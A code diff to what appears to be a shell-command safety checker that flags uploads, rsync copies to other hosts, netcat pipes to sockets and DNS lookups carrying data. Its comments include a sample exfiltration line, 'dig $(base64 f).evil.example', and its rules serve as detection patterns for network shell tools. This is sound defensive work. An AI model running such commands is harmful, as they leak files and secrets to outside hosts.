@@ -1,8 +1,16 @@
+import { judgeSent } from "../paths/judge-place.ts";
 import { judgeRequest } from "../paths/judge-request.ts";
 import { judgeUrl } from "../paths/judge-url.ts";
 import { resolvePath } from "../paths/resolve-path.ts";
-import { placeholder, type ShellCommand, type ShellWord } from "../shell/shell-command.ts";
+import { inputOf } from "../shell/print-text.ts";
+import {
+  placeholder,
+  plainWord,
+  type ShellCommand,
+  type ShellWord,
+} from "../shell/shell-command.ts";
 import { hasOption, operandsOf, unwrapCommand } from "../shell/unwrap-command.ts";
+import { buildOutput } from "./rows/build-output.ts";
 import { reportPath, reportReadPath } from "./report-path.ts";
 import { type CommandRule, forPrograms, type RunContext } from "./rule-context.ts";
 
@@ -29,7 +37,9 @@ const httpClient: CommandRule = (argv, context, command) => {
     if (/^(?:https?|httpie|xh)$/.test(argv.name) && formFile.test(text) && !isLocal)
       context.report(sends("uploads a file", true));
     if (uploadOption.test(text) || (text === "-T" && next !== "")) {
-      if (!isLocal) context.report(sends("uploads a file"));
+      const path = text.includes("=") ? text.slice(text.indexOf("=") + 1) : next;
+      const ofMachine = judgeSent(path, context.cwd) !== null;
+      if (!isLocal) context.report(sends("uploads a file", !ofMachine));
       if (!text.includes("=")) reportReadPath(next, context);
     }
     const body = bodyOption.test(text) ? next : joinedBody.exec(text)?.[1];
@@ -174,13 +184,29 @@ const copyOut: CommandRule = ({ name, args }, context) => {
   for (const word of operands) reportReadPath(word.text, context);
   const last = operands.at(-1)?.text ?? "";
   if (name === "rsync" && hasOption(args, "n", "--dry-run")) return;
-  if (/^[^/]+:|^rsync:\/\//.test(last)) context.report(sends("copies files to another host", true));
+  const sources = operands.slice(0, -1).map((word) => word.text);
+  if (/^[^/]+:|^rsync:\/\//.test(last) && !isDelivery(sources, last, context)) {
+    context.report(sends("copies files to another host", true));
+  }
   if (!hasOption(args, "", "--delete", "--delete-after", "--delete-before", "--delete-excluded"))
     return;
   if (isBelow(last, context)) return;
   const what = "deletes what the source does not have";
   context.report({ category: "recursive-delete", rule: "shell.rsync-delete", what, soft: true });
 };
+
+/** A build's own output. */
+const built = new RegExp(`^${buildOutput}$`);
+/** A host that the user's own ssh settings name, or one of a private network. */
+const nearHost =
+  /^(?:[a-z][\w-]*|(?:[\w.-]+@)?(?:localhost|10\.[\d.]+|192\.168\.[\d.]+|172\.(?:1[6-9]|2\d|3[01])\.[\d.]+)):/;
+
+/** Files of the workspace to a host of one's own, and what a build made to any. */
+function isDelivery(sources: readonly string[], target: string, context: RunContext): boolean {
+  if (sources.length === 0) return false;
+  if (sources.every((path) => built.test(path))) return true;
+  return nearHost.test(target) && sources.every((path) => path === "./" || isBelow(path, context));
+}
 
 /** A folder below the workspace, or a temporary one. */
 function isBelow(path: string, { cwd, workspace }: RunContext): boolean {
@@ -213,6 +239,8 @@ const rawSocket: CommandRule = ({ name, args }, context, command) => {
   if (hasOption(args, "z", "--zero")) return;
   const fromFile = command.redirects.find((redirect) => redirect.operator.startsWith("<"));
   const local = loopback.test(line);
+  const redis = /\b6379\b/.test(line) ? inputOf(command) : null;
+  if (redis !== null) judgeRedis(redis, context);
   if (command.pipedFrom === null && fromFile === undefined) return;
   // `sleep 600 | nc host 80` keeps a line open, `echo ruok | nc zookeeper 2181` asks for its state.
   const fed = command.pipedFrom?.words ?? [];
@@ -224,6 +252,15 @@ const rawSocket: CommandRule = ({ name, args }, context, command) => {
   const rule = "shell.pipe-to-socket";
   context.report({ category: "exfiltration", rule, what, soft: local });
 };
+
+/** Redis takes its commands as plain lines. */
+function judgeRedis(text: string, context: RunContext): void {
+  for (const line of text.split("\n", redisLinesMax)) {
+    const words = line.trim().split(/\s+/).map(plainWord);
+    context.languages.program([plainWord("redis-cli"), ...words], context, null);
+  }
+}
+const redisLinesMax = 64;
 
 /** Names that carry data: `dig $(base64 f).evil.example`. */
 const lookup: CommandRule = ({ args }, context) => {
